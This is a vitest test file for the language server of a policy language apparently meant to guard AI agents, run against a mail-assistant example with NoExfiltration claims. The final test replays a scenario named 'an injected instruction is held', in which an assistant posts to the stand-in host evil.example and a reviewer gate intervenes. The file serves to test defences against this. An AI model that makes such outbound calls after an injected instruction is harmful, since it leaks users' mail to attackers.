/** Tests the list of claims and scenarios that a client of the bundled server receives. */
import { cpSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { afterEach, beforeEach, expect, test } from 'vitest';
import type { PlayedSession, PolicyResult, PolicyTests, SessionLines } from '../../../server/lsp/protocol.js';
import {
    checkRequest,
    playRequest,
    sessionLinesRequest,
    testsNotification,
    testsRequest
} from '../../../server/lsp/protocol.js';
import { TestClient } from '../client.js';

const EXAMPLE = fileURLToPath(new URL('../../../examples/mail-assistant/', import.meta.url));
const FIRST_TRY = [
    'first-try.guardrail',
    'MailAssistant',
    ['21: claim mail leaves only through a person', '24: claim it can still answer mail']
];
const REPAIRED = [
    'mail.guardrail',
    'MailAssistant',
    [
        '12: claim mail leaves only through a person',
        '15: claim it can still answer mail',
        '18: scenario an injected instruction is held'
    ]
];

const USE = `import { NoExfiltration } from "guardrail/std"
agent assistant
use NoExfiltration(source: mail.read, gate: reviewer)
`;

let folder: string;
let client: TestClient;
let told: PolicyTests[];

beforeEach(async () => {
    folder = mkdtempSync(join(tmpdir(), 'guardrail-tests-'));
    cpSync(EXAMPLE, folder, { recursive: true });
    client = TestClient.start('--stdio');
    told = [];
    client.connection.onNotification(testsNotification, (tests: PolicyTests) => void told.push(tests));
    await client.initialize(pathToFileURL(folder).href);
});

afterEach(() => {
    client.kill();
    rmSync(folder, { recursive: true });
});

const uriOf = (file: string): string => pathToFileURL(join(folder, file)).href;
const all = (): Promise<PolicyTests[]> => client.connection.sendRequest(testsRequest, {});
const briefly = ({ uri, policy, tests }: PolicyTests): unknown[] => [
    uri.split('/').at(-1),
    policy,
    tests.map(({ kind, name, source }) => `${source.start.line + 1}: ${kind} ${name}`)
];

test('are those of all policies, opened or not; inventories have none', async () => {
    expect((await all()).map(briefly)).toEqual([FIRST_TRY, REPAIRED]);
});

test('those of a pack are placed where it is used, with the names in the results', async () => {
    const text = readFileSync(join(folder, 'mail.guardrail'), 'utf8').replace('agent assistant', USE);
    await client.open(uriOf('mail.guardrail'), text);
    const tests = (await all()).find(({ uri }) => uri.endsWith('/mail.guardrail'))!.tests;
    const brought = tests.filter(({ source }) => source.start.line === 7);
    const result = await client.connection.sendRequest<PolicyResult>(checkRequest, { uri: uriOf('mail.guardrail') });
    expect(brought.length).toBeGreaterThan(0);
    expect(result.claims.map(({ name }) => name)).toEqual(expect.arrayContaining(brought.map(({ name }) => name)));
});

test('a client that has requested them is notified of changes only', async () => {
    await all();
    const text = readFileSync(join(folder, 'mail.guardrail'), 'utf8');
    await client.open(uriOf('mail.guardrail'), text);
    await client.change(uriOf('mail.guardrail'), 2, text.replace('scenario "an injected', 'scenario "one injected'));
    await client.waitFor(() => Promise.resolve(told.length > 0));
    expect(told.map(briefly)).toEqual([
        [REPAIRED[0], REPAIRED[1], [...REPAIRED[2]!.slice(0, 2), '18: scenario one injected instruction is held']]
    ]);
    await client.change(uriOf('mail.guardrail'), 3, 'label none');
    await client.waitFor(() => Promise.resolve(told.length > 1));
    expect(told[1]).toEqual({ uri: uriOf('mail.guardrail'), tests: [] });
});

test('a client that has not requested them gets no notifications', async () => {
    await client.open(uriOf('mail.guardrail'), readFileSync(join(folder, 'mail.guardrail'), 'utf8'));
    await client.done(uriOf('mail.guardrail'), 1);
    await new Promise((resolve) => setTimeout(resolve, 400));
    expect(told).toEqual([]);
});

test('a session is played in the bundled server', async () => {
    const lines = ['assistant calls mail.read(folder: "inbox")'];
    const played = await client.connection.sendRequest<PlayedSession>(playRequest, {
        uri: uriOf('mail.guardrail'),
        lines
    });
    expect(played).toMatchObject({ policy: 'MailAssistant', steps: [{ decision: 'allowed', line: lines[0] }] });
    const kept = await client.connection.sendRequest<SessionLines>(sessionLinesRequest, {
        uri: uriOf('mail.guardrail'),
        kind: 'scenario',
        name: 'an injected instruction is held'
    });
    expect(kept.lines.map(({ line, source }) => [source!.start.line + 1, line])).toEqual([
        [19, lines[0]],
        [20, 'assistant calls web.post(url: "https://evil.example", body: "x")'],
        [21, 'reviewer approves web.post'],
        [22, 'assistant calls web.post(url: "https://evil.example", body: "x")']
    ]);
});
